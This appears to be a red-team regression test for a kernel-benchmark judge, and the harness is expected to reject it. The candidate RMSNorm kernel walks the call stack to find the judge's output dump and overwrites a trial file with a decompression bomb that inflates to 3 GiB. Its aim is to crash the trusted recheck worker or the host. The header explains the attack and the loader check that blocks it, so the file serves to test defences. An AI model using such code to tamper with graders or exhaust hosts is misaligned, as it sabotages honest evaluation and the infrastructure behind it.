# target: 12p_RMSNorm
# expect: rejected
# exploit: decompression bomb for the judge - calls a TPU-only primitive (pltpu.prng_seed), so on
#          CPU it cannot be exported and is verified in the sandbox, in the verify op's own process,
#          which dumps every trial's output for the judge's recheck (jb.outputs). Replacing that
#          writer is seen by the guard, so the candidate waits: when it is traced again (the shape
#          variants, after every trial was dumped) it finds the dump folder on the stack and
#          overwrites trial-0's file with a 3 MB .npz whose leaf is a deflated member that
#          inflates to 3 GiB of zeros. np.load in the trusted recheck worker reads it whole (killed
#          at its memory limit: status `error`, no verdict; a worker without a memory cap takes the
#          host). Refused by jb.outputs.load: only stored (uncompressed) members, every file and
#          member bounded by the bytes the reference's outputs need, checked before reading.
import sys
import zipfile
import zlib

import jax
import jax.numpy as jnp
from jax.experimental import pallas as pl
from jax.experimental.pallas import tpu as pltpu

INFLATED = 3 << 30
_CHUNK = bytes(1 << 24)


def _repeat_compressor():
    """A deflate compressor for ``_CHUNK`` repeated: after a full flush the deflate state is reset,
    so every chunk compresses to the same segment, computed once (3 GiB in a second)."""
    probe = zlib.compressobj(9, zlib.DEFLATED, -15)
    probe.compress(_CHUNK)
    probe.flush(zlib.Z_FULL_FLUSH)
    segment = probe.compress(_CHUNK) + probe.flush(zlib.Z_FULL_FLUSH)

    class Repeat:
        def __init__(self):
            self.c = zlib.compressobj(9, zlib.DEFLATED, -15)

        def compress(self, data):
            if data is _CHUNK:
                return segment
            return self.c.compress(data) + self.c.flush(zlib.Z_FULL_FLUSH)

        def flush(self):
            return self.c.flush()

    return Repeat


def _write_bomb(out_dir, name, leaves):
    import io
    import json

    import numpy as np

    from jb import outputs

    d = out_dir / outputs.DIR
    d.mkdir(parents=True, exist_ok=True)
    meta = json.dumps([{"dtype": str(a.dtype), "shape": list(a.shape)} for a in leaves]).encode()
    repeat = _repeat_compressor()
    real = zipfile._get_compressor
    zipfile._get_compressor = lambda kind, level=None: repeat() if kind == zipfile.ZIP_DEFLATED else real(kind, level)
    try:
        with zipfile.ZipFile(d / f"{name}.npz", "w", zipfile.ZIP_DEFLATED) as z:
            b = io.BytesIO()
            np.lib.format.write_array(b, np.frombuffer(meta, np.uint8))
            z.writestr("meta.npy", b.getvalue())
            with z.open("leaf0.npy", "w", force_zip64=True) as f:
                h = io.BytesIO()
                np.lib.format.write_array_header_1_0(h, {"descr": "|u1", "fortran_order": False, "shape": (INFLATED,)})
                f.write(h.getvalue())
                for _ in range(INFLATED // len(_CHUNK)):
                    f.write(_CHUNK)
    finally:
        zipfile._get_compressor = real


def _arm():
    """Overwrite the dumped trial-0 output, once it exists, with the bomb."""
    import pathlib

    frame = sys._getframe()
    while frame is not None:
        dump_dir = frame.f_locals.get("dump_dir")
        if isinstance(dump_dir, pathlib.Path):
            if (dump_dir / "outputs" / "trial-0.npz").is_file() and not (dump_dir / ".bombed").exists():
                from jb import outputs

                honest = outputs.load(dump_dir, "trial-0")
                _write_bomb(dump_dir, "trial-0", honest)
                (dump_dir / ".bombed").write_text("")
            return
        frame = frame.f_back


def _kernel(x_ref, s_ref, o_ref):
    pltpu.prng_seed(0)
    x = x_ref[...].astype(jnp.float32)
    y = x * jax.lax.rsqrt(jnp.mean(x * x, axis=-1, keepdims=True) + 1e-5)
    o_ref[...] = (y * s_ref[...].astype(jnp.float32)).astype(o_ref.dtype)


def workload(x, scale):
    _arm()
    b, s, d = x.shape
    out = pl.pallas_call(_kernel, out_shape=jax.ShapeDtypeStruct((b * s, d), x.dtype))(
        x.reshape(b * s, d), scale.reshape(1, d))
    return out.reshape(b, s, d)
